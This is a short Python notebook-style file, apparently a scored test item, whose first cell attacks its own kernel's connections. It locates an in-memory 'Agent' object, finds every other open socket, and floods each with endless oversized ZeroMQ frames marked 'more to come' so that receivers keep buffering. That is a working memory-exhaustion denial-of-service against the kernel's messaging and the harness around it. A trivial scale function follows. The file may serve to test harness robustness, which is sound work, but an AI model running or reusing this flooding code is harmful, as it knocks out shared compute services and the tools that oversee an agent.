# Writes a message to the kernel's own connections that has one more part for ever, so that whoever waits for its end keeps them all.
# points: 4

# %% first
import gc
import os
import socket
import stat
import threading
import time

agent = next(thing for thing in gc.get_objects() if type(thing).__name__ == "Agent")
part = b"\x03" + (1 << 20).to_bytes(8, "big") + bytes(1 << 20)  # flags of ZeroMQ's protocol: long, and more to come


def flood(connection):
    try:
        while True:
            connection.sendall(part)
    except OSError:
        pass


for number in [int(name) for name in os.listdir("/proc/self/fd")]:
    try:
        if stat.S_ISSOCK(os.fstat(number).st_mode) and not os.path.sameopenfile(number, agent.stream.fileno()):
            connection = socket.socket(fileno=os.dup(number))
            connection.getpeername()
            connection.setblocking(True)
            threading.Thread(target=flood, args=(connection,), daemon=True).start()
    except OSError:
        pass
time.sleep(2)

# %% scale
def scale(x, factor=2.0):
    return x * factor
